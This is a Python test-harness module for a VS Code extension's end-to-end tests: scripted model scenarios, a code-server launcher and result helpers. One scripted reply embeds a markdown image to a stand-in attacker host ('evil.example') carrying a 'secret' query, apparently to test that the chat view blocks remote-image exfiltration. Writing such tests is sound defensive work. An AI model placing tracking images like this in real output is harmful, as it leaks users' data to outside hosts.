"""The code-server harness shared by the VS Code end-to-end modules: the scripted scenarios,
starting code-server with the built .vsix and a scripted model, running drive.mjs, and the
helpers the tests read its results with."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from tests.support.scripted_model import ScriptedModel

REPO_ROOT = Path(__file__).resolve().parents[2]
EXTENSION_DIR = REPO_ROOT / "editors" / "vscode"
HARNESS_DIR = Path(__file__).resolve().parent
DEPS_DIR = HARNESS_DIR / ".deps"
CODE_SERVER = DEPS_DIR / "node_modules" / ".bin" / "code-server"
CHROMIUM = Path("/usr/bin/chromium")
SCREENSHOT_TARGET = REPO_ROOT / "docs" / "images" / "vscode-conversation.png"
# Screenshots the driver takes along the way (artifacts/NAME), refreshed in docs/images too.
EXTRA_SCREENSHOTS = (
    "vscode-chat-diff.png",
    "vscode-completion.png",
    "vscode-toolbar.png",
    "vscode-plan.png",
)
SERVER_EXECUTABLE = Path(sys.executable).parent / "claw-lsp"
INSTALL_HINT = "run scripts/install-vscode-test-deps.sh first"

FIXTURE_EXTENSION = HARNESS_DIR / "fixture-extension"
FIXTURE_FILES = {"lib.cfx": "def greet(name)\n", "main.cfx": 'use lib\nsay(greet("world"))\n'}
FIXTURE_CALL = {"path": "main.cfx", "line": 2, "symbol": "greet"}
FIXTURE_GOOD, FIXTURE_BAD = 'say(greet("world"))', 'say(greet("world")'
FIXTURE_BREAK = {"path": "main.cfx", "old_text": FIXTURE_GOOD, "new_text": FIXTURE_BAD}
FIXTURE_FIX = {"path": "main.cfx", "old_text": FIXTURE_BAD, "new_text": FIXTURE_GOOD}
LONG_STREAM = "Counting: " + " ".join(str(n) for n in range(1, 200)) + " END-OF-STREAM"
SCENARIOS: dict[str, list[dict[str, Any]]] = {
    "askEdit": [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
        {
            "tool_calls": [
                {
                    "name": "edit_file",
                    "arguments": {"path": "demo.py", "old_text": "x = 1", "new_text": "x = 2"},
                }
            ]
        },
        {"text": "Changed **x** to 2. ![tracker](https://evil.example/pixel.png?q=secret)"},
    ],
    # CI workflows are protected: even at the write tier each write asks the user first.
    "approval": [
        {
            "tool_calls": [
                {
                    "name": "write_file",
                    "arguments": {"path": ".github/workflows/ci.yml", "content": "name: ci\n"},
                }
            ]
        },
        {"text": "Wrote the workflow."},
    ],
    "proposal": [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
        {
            "tool_calls": [
                {
                    "name": "edit_file",
                    "arguments": {"path": "demo.py", "old_text": "x = 1", "new_text": "x = 3"},
                }
            ]
        },
        {"text": "Proposed x = 3 for review."},
    ],
    "cancel": [{"text": LONG_STREAM, "chunks": 60, "chunk_delay": 0.25}],
    # Issue 20: the chat input of the conversation view.
    "mention": [{"text": "It sets x to 1."}],
    "slash": [],
    "commandPicker": [],
    "selectionChip": [{"text": "The selection is one assignment."}],
    "undoButton": [
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
        {
            "tool_calls": [
                {
                    "name": "edit_file",
                    # demo.py holds the accepted proposal (x = 3) by then.
                    "arguments": {"path": "demo.py", "old_text": "x = 3", "new_text": "x = 5"},
                }
            ]
        },
        {"text": "Set x to 5."},
    ],
    "tier": [],
    # Issue 16: the language tools through claw/lsp, answered by the fixture extension's
    # providers and diagnostic collection (fixture-extension/, language "clawfix").
    "lspBridge": [
        {"tool_calls": [{"name": "definition", "arguments": FIXTURE_CALL}]},
        {
            "tool_calls": [
                {
                    "name": "references",
                    "arguments": {"path": "lib.cfx", "line": 1, "symbol": "greet"},
                }
            ]
        },
        {"tool_calls": [{"name": "edit_file", "arguments": FIXTURE_BREAK}]},
        {"tool_calls": [{"name": "edit_file", "arguments": FIXTURE_FIX}]},
        {"text": "Navigated and checked."},
    ],
}


# Issues 18/20: plan mode from the toolbar (drive_plan.mjs). The plan turn keeps a todo list,
# delegates a search to a subagent (whose one reply is CHILD_ANSWER) and hands over PLAN; the
# accepted turn ticks the list through. The plan scenario's requests, in order: plan turn 0-3
# (3 is after the child's answer), child 2, accepted turn 4-6.
PLAN = "1. Read demo.py\n2. Set x to 7"
CHILD_ANSWER = "CHILD-ANSWER: x is set only in demo.py, line 1."
PLAN_TODOS = [
    {"id": "1", "content": "Read demo.py", "status": "in_progress"},
    {"id": "2", "content": "Set x to 7", "status": "pending"},
]
EDITED_PLAN = "1. Rename x to renamed_by_user\n2. Keep the tests green"


def _todo_call(*statuses: str) -> dict[str, Any]:
    todos = [{**todo, "status": status} for todo, status in zip(PLAN_TODOS, statuses, strict=True)]
    return {"tool_calls": [{"name": "todo_write", "arguments": {"todos": todos}}]}


def _plan_call(plan: str) -> dict[str, Any]:
    return {"tool_calls": [{"name": "exit_plan_mode", "arguments": {"plan": plan}}]}


SCENARIOS.update(
    {
        "plan": [
            _todo_call("in_progress", "pending"),
            {
                "tool_calls": [
                    {
                        "name": "task",
                        "arguments": {
                            "description": "Find where x is set",
                            "prompt": "Find every assignment to x in the workspace.",
                            "agent": "explore",
                        },
                    }
                ]
            },
            {"text": CHILD_ANSWER},
            _plan_call(PLAN),
            _todo_call("completed", "in_progress"),
            _todo_call("completed", "completed"),
            {"text": "Both steps are done."},
        ],
        "planEdit": [_plan_call("1. Rename x to y\n2. Keep the tests green"), {"text": "Renamed."}],
        "planPalette": [_plan_call("- Accepted from the palette"), {"text": "Carried out."}],
        "planKeep": [_plan_call("1. Something else")],
    }
)


def _missing_dependencies() -> list[str]:
    missing = []
    if not CODE_SERVER.exists():
        missing.append(str(CODE_SERVER))
    if not (DEPS_DIR / "node_modules" / "playwright-core").exists():
        missing.append("playwright-core")
    if not (EXTENSION_DIR / "node_modules" / ".bin" / "esbuild").exists():
        missing.append(str(EXTENSION_DIR / "node_modules"))
    if not CHROMIUM.exists():
        missing.append(str(CHROMIUM))
    if shutil.which("node") is None:
        missing.append("node")
    return missing


def _require_dependencies() -> None:
    missing = _missing_dependencies()
    if missing:
        pytest.skip(f"VS Code e2e dependencies missing ({', '.join(missing)}): {INSTALL_HINT}")


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _run(command: list[str], cwd: Path, timeout: float) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        command, cwd=cwd, capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL
    )
    assert result.returncode == 0, (
        f"{' '.join(command)} failed:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
    )
    return result


def _stop_process_group(process: subprocess.Popen[bytes]) -> None:
    """code-server leaves fileWatcher children behind when only it dies: end its whole group."""
    try:
        group = os.getpgid(process.pid)
    except ProcessLookupError:
        return
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.killpg(group, sig)
        except ProcessLookupError:
            return
        try:
            process.wait(timeout=5)
        except subprocess.TimeoutExpired:
            continue
        time.sleep(0.5)


def _wait_healthy(url: str, process: subprocess.Popen[bytes], timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        assert process.poll() is None, "code-server exited during start-up"
        try:
            with urllib.request.urlopen(f"{url}/healthz", timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    raise AssertionError("code-server did not become healthy")


def _code_server_session(
    vsix: Path, base: Path, settings: dict[str, Any], driver_options: dict[str, Any]
) -> dict[str, Any]:
    """Starts code-server with the .vsix and a scripted model, runs drive.mjs, stops everything."""
    workspace, user_data, extensions, state = (
        base / name for name in ("ws", "user-data", "extensions", "state")
    )
    for folder in (workspace, user_data / "User", extensions, state):
        folder.mkdir(parents=True)
    (workspace / "demo.py").write_text("x = 1\n")
    for name, text in FIXTURE_FILES.items():
        (workspace / name).write_text(text)
    user_settings = {
        # VS Code saves refactoring edits by default; the tests check buffer and undo.
        "files.refactoring.autoSave": False,
        # VS Code for the web (code-server) defaults files.autoSave to afterDelay (1 s): a turn
        # that waits for diagnostics after its edit would see the edit saved before Ctrl+Z.
        "files.autoSave": "off",
        "workbench.startupEditor": "none",
        "security.workspace.trust.enabled": False,
        "telemetry.telemetryLevel": "off",
        "extensions.autoUpdate": False,
        "extensions.autoCheckUpdates": False,
        "update.mode": "none",
        "workbench.tips.enabled": False,
        "git.enabled": False,
        **settings,
    }
    (user_data / "User" / "settings.json").write_text(json.dumps(user_settings, indent=2))
    for package in (vsix, vsix.with_name("fixture.vsix")):
        _run(
            [str(CODE_SERVER), "--extensions-dir", str(extensions), "--user-data-dir",
             str(user_data), "--install-extension", str(package)],
            REPO_ROOT,
            timeout=120,
        )  # fmt: skip

    model = ScriptedModel().start()
    port = _free_port()
    url = f"http://127.0.0.1:{port}"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CLAW_", "OPENAI_"))}
    env.update(
        OPENAI_BASE_URL=model.base_url,
        OPENAI_API_KEY="test-key",
        OPENAI_MODEL="scripted",
        CLAW_STATE_DIR=str(state),
        XDG_CONFIG_HOME=str(base / "xdg-config"),
        XDG_DATA_HOME=str(base / "xdg-data"),
    )
    log_file = (base / "code-server.log").open("wb")
    code_server = subprocess.Popen(
        [
            str(CODE_SERVER), "--auth", "none", "--bind-addr", f"127.0.0.1:{port}",
            "--extensions-dir", str(extensions), "--user-data-dir", str(user_data),
            "--disable-telemetry", "--disable-update-check", "--disable-workspace-trust",
            str(workspace),
        ],
        cwd=base, env=env, stdout=log_file, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
        start_new_session=True,
    )  # fmt: skip
    try:
        _wait_healthy(url, code_server)
        config = {
            "url": url,
            "workspace": str(workspace),
            "depsDir": str(DEPS_DIR),
            "chromium": str(CHROMIUM),
            "modelControl": f"http://127.0.0.1:{model.port}",
            "results": str(base / "results.json"),
            "screenshot": str(base / "conversation.png"),
            "artifacts": str(base / "artifacts"),
            **driver_options,
        }
        (base / "config.json").write_text(json.dumps(config))
        driver = subprocess.run(
            ["node", str(HARNESS_DIR / "drive.mjs"), str(base / "config.json")],
            cwd=HARNESS_DIR, capture_output=True, text=True, timeout=480, stdin=subprocess.DEVNULL,
        )  # fmt: skip
        results: dict[str, Any] = json.loads(Path(config["results"]).read_text())
        results["driverOutput"] = driver.stdout[-4000:] + driver.stderr[-4000:]
        results["workspace"] = workspace
        results["screenshotPath"] = Path(config["screenshot"])
        results["artifacts"] = base
        assert "fatal" not in results, (
            f"driver failed: {results['fatal']}\n{results['driverOutput']}\nartifacts: {base}"
        )
        return results
    finally:
        _stop_process_group(code_server)
        log_file.close()
        model.stop()


def _scenario(results: dict[str, Any], name: str) -> dict[str, Any]:
    record: dict[str, Any] = results["scenarios"].get(name, {})
    assert record.get("ok"), (
        f"scenario {name} failed: {record.get('error')}\nartifacts: {results['artifacts']}"
    )
    return record


def _messages_text(request: dict[str, Any]) -> str:
    return json.dumps(request.get("messages", []))


def _user_messages(request: dict[str, Any]) -> str:
    return "\n".join(
        str(m.get("content")) for m in request.get("messages", []) if m.get("role") == "user"
    )
